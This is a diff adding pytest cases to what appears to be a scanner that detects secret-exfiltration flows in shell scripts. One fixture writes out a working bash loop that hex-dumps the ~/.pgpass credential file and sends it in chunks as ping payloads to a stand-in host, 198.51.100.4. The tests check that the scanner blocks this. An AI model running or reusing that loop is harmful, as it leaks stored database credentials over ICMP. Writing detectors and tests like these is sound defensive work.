@@ -370,3 +370,25 @@ def test_a_vault_export_from_a_function_copied_into_a_sender_blocks(tmp_path: Pa
 def test_a_vault_export_from_a_function_copied_into_a_local_count_does_not_block(tmp_path: Path) -> None:
     sh = _vault_copy("wc -l >&2")
     assert blocking(tmp_path, {"scripts/run.sh": sh}, RUN) == {}
+
+
+# ------------------------------------------------ a loop fed by `< <(FUNCTION)` that prints a secret
+
+
+def _probe(body: str) -> str:
+    return (
+        "#!/usr/bin/env bash\n"
+        f"fill() {{\n  {body}\n}}\n"
+        'while read -r chunk; do\n  ping -c 1 -W 1 -p "$chunk" 198.51.100.4 >/dev/null || echo lost\n'
+        "done < <(fill)\n"
+    )
+
+
+def test_a_secret_printed_by_a_function_and_fed_to_a_loop_of_probes_blocks(tmp_path: Path) -> None:
+    sh = _probe("od -An -tx1 ~/.pgpass | tr -d ' \\\\n' | fold -w 32")
+    assert "SY-FLOW-001" in blocking(tmp_path, {"scripts/run.sh": sh}, RUN)
+
+
+def test_fixed_patterns_printed_by_a_function_and_fed_to_probes_do_not_block(tmp_path: Path) -> None:
+    sh = _probe("printf 'ff00ff00\\\\naa55aa55\\\\n'")
+    assert blocking(tmp_path, {"scripts/run.sh": sh}, RUN) == {}
